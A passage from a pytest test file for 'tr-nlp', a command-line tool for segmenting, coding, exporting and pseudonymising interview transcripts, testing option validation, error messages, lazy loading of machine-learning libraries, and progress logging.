    # starts a new one, so help read "Writes a corpus folder any" on a line of its own
    for name, command in ((c.name, c) for c in typer.main.get_command(app).commands.values()):
        lines = (command.help or "").splitlines()[1:]
        assert all(len(line) <= 78 for line in lines), (name, max(lines, key=len))


def test_train_cuts_segments_with_the_speaker_roles_given(tmp_path):
    cards = []
    for extra in ([], ["--speaker-role", "Interviewer=participant"]):
        result = run("train", "--corpus", DEMO, "--features", "tfidf", "--cv-folds", "0", "-o", tmp_path / str(len(extra)),
                     "--quiet", *extra)
        assert result.exit_code == 0, result.output
        cards.append(json.loads((tmp_path / str(len(extra)) / "card.json").read_text()))
    # the interviewers' sentences are participant speech now, so more segments of the coded interviews
    assert cards[1]["training_data"]["segments"] > cards[0]["training_data"]["segments"]


@pytest.mark.parametrize("args", [["--unit", "turn", "--window", "3"], ["--stride", "2"],
                                  ["--unit", "sentence", "--window", "2", "--stride", "1"]])
def test_window_options_with_another_unit_are_refused_not_ignored(write, args):
    path = write("a.txt", "I: Hi?\nP: Hello. I am fine.\n")
    result = run("segment", path, *args)
    assert result.exit_code == 2 and "not 'window', so --" in result.stderr and "would be ignored" in result.stderr
    assert "add --unit window" in result.stderr


#: What a command that trains, codes or discovers needs, and one that only reads or writes transcripts does not.
HEAVY = ("sklearn", "scipy", "torch", "spacy", "bertopic", "skops", "umap", "sentence_transformers")


@pytest.mark.parametrize("args", [
    ["--help"],
    ["code", "--help"],
    ["inspect", str(DEMO / "interviews")],
    ["segment", str(DEMO / "interviews" / "demo03.vtt"), "--unit", "turn", "-o", "{tmp}/segments.csv"],
    ["export", "--corpus", str(DEMO), "-o", "{tmp}/demo.qdpx", "--quiet"],
    ["pseudonymise", str(DEMO / "interviews" / "demo01.txt"), "-o", "{tmp}/pseudo", "--quiet"],
], ids=["help", "code-help", "inspect", "segment-turns", "export", "pseudonymise"])
def test_commands_that_only_read_and_write_transcripts_start_without_the_model_libraries(args, tmp_path):
    """`tr-nlp --help`, shell completion, inspect, segment by turns, import/export and pseudonymise
    do not wait seconds for scikit-learn, torch, spaCy or BERTopic to load."""
    script = ("import sys\nfrom tr_nlp.cli import app\n"
              "try:\n    app(sys.argv[1:])\nexcept SystemExit as exit:\n    code = exit.code\n"
              f"print('LOADED', code, sorted(m for m in {HEAVY!r} if m in sys.modules))\n")
    argv = [a.format(tmp=tmp_path) for a in args]
    r = subprocess.run([sys.executable, "-c", script, *argv], capture_output=True, text=True, timeout=120)
    assert r.stdout.strip().splitlines()[-1] == "LOADED 0 []", r.stdout[-2000:] + r.stderr[-2000:]
    if args[0] == "export":  # and the project it wrote reads back
        imported = subprocess.run([sys.executable, "-c", script, "import", f"{tmp_path}/demo.qdpx", "-o",
                                   f"{tmp_path}/imported"], capture_output=True, text=True, timeout=120)
        assert imported.stdout.strip().splitlines()[-1] == "LOADED 0 []", imported.stderr[-2000:]


def test_report_command_default_is_the_reports():
    """`tr-nlp report --max-interviews` states its default without loading the report's libraries."""
    from tr_nlp.cli.report_cmd import MAX_INTERVIEWS
    from tr_nlp.report.render import MAX_INTERVIEWS as RENDER_DEFAULT

    assert MAX_INTERVIEWS == RENDER_DEFAULT


def test_timestamp_col_names_a_tables_time_column(tmp_path):
    # a column named neither timestamp nor time: only --timestamp-col can name it
    table = tmp_path / "t.csv"
    table.write_text("interview_id,speaker,text,when\np1,I,Who helped?,00:01:05\np1,P,The nurse did.,00:01:09\n",
                     encoding="utf-8")
    result = run("segment", table, "--timestamp-col", "when", "--unit", "turn", "--roles", "interviewer,participant")
    assert result.exit_code == 0, result.output
    assert pd.read_csv(io.StringIO(result.stdout.lstrip("\ufeff")))["timestamp"].tolist() == [65.0, 69.0]
    wrong = run("inspect", table, "--timestamp-col", "whenx")
    assert wrong.exit_code == 2 and "Pass --timestamp-col with the right column name" in wrong.stderr


@pytest.mark.parametrize("args", [
    ["code", "{missing}", "--model", "{missing}", "-o", "{notes}/suggestions.csv"],
    ["train", "--corpus", "{missing}", "-o", "{notes}/models/study"],
    ["batch", "{missing}", "--model", "{missing}", "-o", "{notes}/batch"],
])
def test_an_output_inside_a_file_is_refused_naming_that_file_before_any_work(tmp_path, args):
    notes = tmp_path / "notes.txt"  # -o notes.txt/... : a typo, or a file where a folder was meant
    notes.write_text("someone's notes")
    fill = {"{missing}": str(tmp_path / "missing")}
    result = run(*[fill.get(a, a.replace("{notes}", str(notes))) for a in args])
    assert result.exit_code == 2, result.stderr
    assert f"{notes}: [E173] is a file, but {notes}/" in result.stderr and "E100" not in result.stderr, result.stderr
    assert notes.read_text() == "someone's notes"


def test_a_long_stage_shows_its_latest_log_on_a_terminal_and_nothing_elsewhere(monkeypatch):
    import io
    import logging

    from rich.console import Console

    from tr_nlp.cli import common

    log, logger = logging.getLogger("tr_nlp.coding.evaluate"), logging.getLogger("tr_nlp")
    level = logger.level
    screen = io.StringIO()
    monkeypatch.setattr(common, "err", Console(file=screen, force_terminal=True, width=120))
    with common.working("cross-validating"):
        log.info("fold %d/%d: trained on 40 segments", 2, 5)
        log.warning("embedding cache x cannot be used")  # printed, as Python prints it with no handler of ours
    said = screen.getvalue()
    assert "cross-validating: fold 2/5: trained on 40 segments" in said and "embedding cache x cannot be used" in said
    assert logger.level == level and not any(isinstance(h, common._StatusLine) for h in logger.handlers)
    for quiet, terminal in ((True, True), (False, False)):  # --quiet, or stderr a file or pipe: no spinner
        screen = io.StringIO()
        monkeypatch.setattr(common, "err", Console(file=screen, force_terminal=terminal, width=120))
        with common.working("cross-validating", quiet=quiet):
            log.info("fold 3/5")
        assert screen.getvalue() == ""
